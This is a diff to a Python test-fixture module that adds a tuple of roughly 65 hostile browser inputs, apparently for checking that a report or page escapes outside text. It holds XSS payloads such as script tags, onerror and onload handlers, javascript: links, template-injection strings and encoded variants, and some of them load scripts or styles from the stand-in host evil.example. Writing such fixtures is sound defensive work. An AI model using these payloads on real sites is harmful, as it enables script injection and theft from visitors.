@@ -1,4 +1,4 @@
-"""Text that articles and file names may hold to make a report act, and how logs of CI services read a report."""
+"""Text that articles may hold to make a report or a page act, and how logs of CI services read a report."""
 
 from __future__ import annotations
 
@@ -69,6 +69,74 @@ PAYLOADS: dict[str, str] = {
     "command of a chat": "/close",
 }
 """By what they try; each stands wherever text comes from outside (`tests.linted.hostile`)."""
+
+FOR_BROWSERS: tuple[str, ...] = (
+    "<script>hacked()</script>",
+    "</script><script>hacked()</script>",
+    "<ScRiPt>hacked()</sCrIpT>",
+    "<script src=https://evil.example/x.js></script>",
+    "<script/x>hacked()</script>",
+    "<scr<script>ipt>hacked()</scr</script>ipt>",
+    "<img src=x onerror=hacked()>",
+    '<img src="x" onerror="hacked()">',
+    "<img src=`x` onerror=hacked()>",
+    '"><img src=x onerror=hacked()>',
+    "'><img src=x onerror=hacked()>",
+    '\\"><img src=x onerror=hacked()>',
+    "--><img src=x onerror=hacked()>",
+    "]]><img src=x onerror=hacked()>",
+    "</textarea><img src=x onerror=hacked()>",
+    "</title><img src=x onerror=hacked()>",
+    "</style><img src=x onerror=hacked()>",
+    "</template><img src=x onerror=hacked()>",
+    "<img src=https://evil.example/x.png>",
+    "<img srcset='https://evil.example/x.png 1x'>",
+    "<svg onload=hacked()>",
+    "<svg><script>hacked()</script></svg>",
+    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:hacked()><text y=9>x</text></a></svg>",
+    "<math><mtext><img src=x onerror=hacked()></mtext></math>",
+    "<body onload=hacked()>",
+    "<details open ontoggle=hacked()>x</details>",
+    "<input autofocus onfocus=hacked()>",
+    "<select autofocus onfocus=hacked()>",
+    "<video><source onerror=hacked()></video>",
+    "<audio src=x onerror=hacked()>",
+    "<marquee onstart=hacked()>x</marquee>",
+    "<div style=animation-name:x onanimationstart=hacked()>x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<iframe src=javascript:hacked()></iframe>",
+    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
+    "<object data=https://evil.example/x></object>",
+    "<embed src=https://evil.example/x>",
+    "<form action=https://evil.example><button>x</button></form>",
+    "<a href=javascript:hacked()>x</a>",
+    "<a href=' javascript:hacked()'>x</a>",
+    "<a href=https://evil.example ping=https://evil.example>x</a>",
+    "<x onclick=hacked() tabindex=1>x</x>",
+    "javascript:hacked()",
+    "data:text/html,<script>hacked()</script>",
+    "[x](javascript:hacked())",
+    "![x](https://evil.example/x.png)",
+    "[x]: https://evil.example 'x'",
+    "<https://evil.example>",
+    "**bold** _it_ `code` ~~gone~~",
+    ":red[x] :material/home: :smile:",
+    "$\\href{javascript:hacked()}{x}$",
+    "# Heading",
+    "{{constructor.constructor('hacked()')()}}",
+    "${hacked()}",
+    "&lt;img src=x onerror=hacked()&gt;",
+    "&#60;script&#62;hacked()&#60;/script&#62;",
+    "%3Cscript%3Ehacked()%3C/script%3E",
+    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
+    "';hacked();//",
+    "__proto__",
+)
+"""What would act in a page that takes text for more than text: each calls ``hacked`` or asks ``evil.example``."""
 
 HIDDEN = (
     frozenset(map(chr, (*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A))))
